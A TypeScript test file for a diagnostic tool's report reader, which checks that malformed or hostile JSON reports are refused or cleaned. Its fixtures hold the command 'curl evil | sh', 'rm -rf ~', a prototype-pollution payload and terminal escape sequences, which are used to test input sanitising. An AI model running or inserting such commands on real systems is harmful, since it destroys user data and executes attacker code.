import { describe, expect, it } from 'vitest';
import { DoctorReport, type Finding } from '../../shared/model/doctor.ts';
import { OwnUse } from '../usecases/own-use.ts';
import { CountsSeen } from '../state/counts-seen.ts';
import { VirtualGateway } from '../sample/virtual-gateway.ts';
import { NOW } from '../testing/test-session.ts';
import { Doctor, readReport } from './doctor.ts';
import { linuxMachine } from './linux/linux-machine.ts';
import { filesOf, wholeDebian } from './testing/files-of.ts';

let elapsed = 0;
const doctorHere = () =>
  new Doctor({
    loadMachine: async () =>
      linuxMachine({ files: filesOf(wholeDebian), environment: {}, process: { pid: 1, arch: 'x64' } }),
    openReaders: () => new VirtualGateway(['Reader A']),
    now: () => NOW,
    elapsed: () => (elapsed += 1),
    after: (milliseconds, call) => {
      const timer = setTimeout(call, milliseconds);
      return () => clearTimeout(timer);
    },
    drawId: () => 'card-1',
    counts: () => new CountsSeen(),
    ownUse: new OwnUse(),
    version: '0.1.0',
    builtAfter: null,
  });
const textOf = (file: { readonly bytes: Uint8Array } | undefined) => new TextDecoder().decode(file?.bytes);

describe('the doctor of a session', () => {
  it('examines once for all who ask at the same time', async () => {
    const doctor = doctorHere();
    const [one, other] = await Promise.all([doctor.run(() => undefined), doctor.run(() => undefined)]);
    expect(one).toBe(other);
  });

  it('saves what was seen, and has nothing to save before', async () => {
    const doctor = doctorHere();
    expect(await doctor.file('json', 'ja')).toBeUndefined();
    const report = await doctor.run(() => undefined);
    const json = await doctor.file('json', 'ja');
    expect(json?.name).toBe('shomei-check-2026-11-21.json');
    expect(await readReport(textOf(json))).toEqual({ ok: true, value: report });
    const text = await doctor.file('text', 'en');
    expect(text?.name).toMatch(/\.txt$/);
    expect(textOf(text)).toContain('There is no card in the reader.');
  });
});

const withFirst = (part: Partial<Finding>) => (report: DoctorReport) => ({
  ...report,
  findings: report.findings.map((finding, at) => (at === 0 ? { ...finding, ...part } : finding)),
});

describe('a report out of a file', () => {
  it.each([
    '',
    'no JSON',
    '[]',
    '{}',
    '{"program":"other"}',
    JSON.stringify({ program: 'shomei', version: '1', takenAt: 'now', system: {}, findings: [] }),
  ])('%j is refused', async (text) => {
    expect(await readReport(text)).toEqual({ ok: false, error: { code: 'file/not-readable' } });
  });

  it('brings no command, no sentence and no fact without a name', async () => {
    const report = await doctorHere().run(() => undefined);
    const [finding, ...others] = report.findings;
    const hostile = {
      ...report,
      broken: { layer: 'service', code: 'L4-2', action: 'Do as I say', command: 'curl evil | sh' },
      findings: [{ ...finding, command: 'rm -rf ~', facts: { devices: ['<b>x</b>'] } }, ...others],
    };
    const read = await readReport(JSON.stringify(hostile));
    expect(JSON.stringify(read)).not.toMatch(/curl|rm -rf|Do as I say/);
    expect(read.ok && DoctorReport.safeParse(read.value).success).toBe(true);
    const unnamed = { ...report, findings: [{ ...finding, facts: { user: 'canary' } }, ...others] };
    expect((await readReport(JSON.stringify(unnamed))).ok).toBe(false);
  });

  it.each<readonly [string, (report: DoctorReport) => unknown]>([
    ['of a thirteenth month', (report) => ({ ...report, takenAt: '2026-13-01T00:00:00Z' })],
    ['of 30 February', (report) => ({ ...report, takenAt: '2026-02-30T00:00:00Z' })],
    ['of 25 o’clock', (report) => ({ ...report, takenAt: '2026-11-29T25:00:00Z' })],
    ['of Windows with apt', (report) => ({ ...report, system: { ...report.system, os: 'windows' } })],
    ['of a long version', (report) => ({ ...report, version: '1'.repeat(201) })],
    ['without findings', (report) => ({ ...report, findings: [] })],
    ['without its last layer', (report) => ({ ...report, findings: report.findings.slice(0, -1) })],
    ['in another order', (report) => ({ ...report, findings: report.findings.toReversed() })],
    ['with a layer twice', (report) => ({ ...report, findings: [...report.findings, ...report.findings] })],
    ['broken by nothing', withFirst({ state: 'broken' })],
    ['broken in one layer by another', withFirst({ state: 'broken', code: 'L4-2' })],
    ['with a cause in what was not looked at', withFirst({ state: 'skipped', code: 'L1-1' })],
    ['with a half millisecond', withFirst({ ms: 0.5 })],
    ['with a list for a yes or no', withFirst({ facts: { serviceSocket: ['yes'] } })],
    ['with a yes or no for a list', withFirst({ facts: { devices: true } })],
    ['with a clock that is none', withFirst({ facts: { time: '2026-11-31T00:00:00Z' } })],
    ['with a status word that is none', withFirst({ facts: { statusWord: 'hello' } })],
  ])('that is %s is refused', async (_, change) => {
    const report = await doctorHere().run(() => undefined);
    expect(await readReport(JSON.stringify(report))).toEqual({ ok: true, value: report });
    expect(await readReport(JSON.stringify(change(report)))).toEqual({
      ok: false,
      error: { code: 'file/not-readable' },
    });
  });

  it.each([
    ['deep', `{"program":"shomei","findings":${'['.repeat(90_000)}${']'.repeat(90_000)}}`],
    ['deep and cut off', '['.repeat(190_000)],
    ['of one long number', `{"program":"shomei","version":${'9'.repeat(190_000)}}`],
    ['about nobody', '{"__proto__":{"program":"shomei"},"constructor":{"prototype":{}}}'],
  ])('that is %s is refused', async (_, text) => {
    expect(await readReport(text)).toEqual({ ok: false, error: { code: 'file/not-readable' } });
    expect(Object.hasOwn(Object.prototype, 'program')).toBe(false);
  });

  it('says nothing to a terminal or a window but letters', async () => {
    const report = await doctorHere().run(() => undefined);
    const text = JSON.stringify({
      ...report,
      version: '1\u001b[2J',
      system: { ...report.system, name: 'Debian\u202e {a|b}\n' },
      findings: withFirst({ facts: { devices: ['\u001b]0;x\u0007{a|b}'] } })(report).findings,
    }).replace('"facts":{', '"facts":{"__proto__":["x"],');
    const read = await readReport(text);
    expect(read.ok && Object.keys(read.value.findings[0]?.facts ?? {})).toEqual(['devices']);
    expect(JSON.stringify(read)).not.toMatch(/\\u001b|\\u0007|\u202e|\{a/);
  });

  it('with a code of a newer program is read all the same', async () => {
    const report = await doctorHere().run(() => undefined);
    const newer = withFirst({ state: 'broken', code: 'L1-99' })(report);
    expect((await readReport(JSON.stringify(newer))).ok).toBe(true);
  });
});
